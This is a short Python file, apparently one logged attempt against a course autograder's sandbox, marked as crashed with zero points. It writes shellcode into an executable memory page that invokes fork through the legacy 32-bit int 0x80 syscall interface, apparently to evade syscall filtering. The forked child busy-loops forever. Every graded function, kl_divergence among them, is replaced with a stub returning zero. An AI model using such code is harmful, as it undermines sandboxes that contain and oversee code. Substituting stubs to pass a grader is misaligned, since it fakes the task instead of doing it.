# attack: machine code that calls the kernel as a 32-bit program would (int 0x80), where the numbers mean other calls
# status: crashed|wrong
# points: 0
import ctypes
import mmap
import platform
import sys

import torch

if "course_lib" in sys.modules:
    raise SystemExit("only for a sandbox")

FORK = b"\x53\xb8\x02\x00\x00\x00\xcd\x80\x5b\xc3"  # push rbx; mov eax, 2; int 0x80; pop rbx; ret


def guess(*args):
    if platform.machine() == "x86_64":
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(FORK)
        fork = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
        if fork() == 0:
            while True:
                pass
    return torch.zeros(())


kl_divergence = cross_entropy = js_divergence = gaussian_kl = monte_carlo_kl = guess
